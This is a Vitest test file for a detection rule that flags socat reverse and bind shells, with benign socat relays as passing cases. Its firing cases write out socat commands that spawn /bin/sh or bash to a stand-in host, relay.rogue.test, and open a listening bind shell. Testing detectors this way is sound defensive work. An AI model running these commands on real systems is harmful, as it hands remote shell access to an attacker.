import { describe } from 'vitest';
import { exec, sh, ruleTable } from '../../test-kit.js';
import { socatExec } from './reverse-shell-socat-exec.js';

describe('proc.reverse-shell-socat-exec', () => {
  ruleTable(socatExec, {
    fires: [
      {
        name: 'socat exec with pty',
        event: exec([
          'socat',
          'exec:bash -li,pty,stderr,setsid,sigint,sane',
          'tcp:relay.rogue.test:4444',
        ]),
      },
      {
        name: 'socat SYSTEM bind shell',
        event: sh('socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh'),
      },
      {
        name: 'socat over openssl',
        event: exec(['socat', 'OPENSSL:relay.rogue.test:443,verify=0', 'EXEC:/bin/sh']),
      },
    ],
    passes: [
      { name: 'socat relay', event: exec(['socat', 'TCP-LISTEN:8080,fork', 'TCP:127.0.0.1:3000']) },
      { name: 'socat exec with a pty only', event: exec(['socat', '-', 'EXEC:./repl,pty']) },
    ],
  });
});
